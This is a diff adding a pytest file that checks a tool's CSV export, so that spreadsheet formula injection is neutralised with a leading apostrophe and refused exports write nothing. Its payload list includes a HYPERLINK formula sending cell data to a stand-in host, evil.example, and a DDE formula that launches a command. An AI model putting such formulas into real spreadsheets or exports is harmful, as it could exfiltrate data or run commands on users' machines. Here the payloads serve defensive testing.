@@ -1,0 +1,63 @@
+"""CSV export is inert in a spreadsheet, and a refused export writes nothing (issue 13)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import subprocess
+
+import pytest
+
+from conftest import VALID_STUDY
+from hardening import SCENMATRIX, snapshot
+from scenmatrix.store.export import to_csv
+from scenmatrix.store.loader import load
+from scenmatrix.study.formulas import is_risky
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "#N/A",
+            "=cmd|' /C calc'!A0"]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def _study(tmp_path, rationale: str):
+    path = tmp_path / "s.yaml"
+    path.write_text(VALID_STUDY)
+    subprocess.run([SCENMATRIX, "set", "-s", str(path), "impact", "S1/RU", "--rationale", rationale], check=True,
+                   capture_output=True)
+    return path
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_formula_looking_text_is_exported_with_a_leading_apostrophe(tmp_path, payload):
+    path = _study(tmp_path, payload)
+    done = subprocess.run([SCENMATRIX, "export", str(path), "--format", "csv", "--table", "impacts"],
+                          capture_output=True, timeout=60)  # bytes: text mode would turn a CR into LF
+    assert done.returncode == 0, done.stderr
+    cells = [cell for row in csv.reader(io.StringIO(done.stdout.decode("utf-8"), newline="")) for cell in row]
+    assert "'" + payload in cells
+    assert not [cell for cell in cells if is_risky(cell) and not _number(cell)], "a cell a spreadsheet would evaluate"
+
+
+def test_numbers_stay_numbers_and_plain_text_stays_as_written(tmp_path):
+    rows = list(csv.DictReader(to_csv(load(_study(tmp_path, "plain -1")).study, "impacts").splitlines()))
+    assert {row["rationale"] for row in rows} >= {"plain -1"}
+    assert all(row["effect"].lstrip("-").isdigit() for row in rows)  # -2 is a number, written as one
+
+
+def test_export_to_a_folder_with_a_folder_in_the_way_writes_nothing(tmp_path):
+    path = _study(tmp_path, "x")
+    out = tmp_path / "out"
+    (out / "scenarios.csv").mkdir(parents=True)
+    before = snapshot(tmp_path)
+    done = subprocess.run([SCENMATRIX, "export", str(path), "--format", "csv", "-o", str(out)], capture_output=True,
+                          text=True, timeout=60)
+    assert done.returncode == 1, done
+    assert done.stderr.startswith(f"{out / 'scenarios.csv'}:1:1: is in the way of the export"), done.stderr
+    assert snapshot(tmp_path) == before
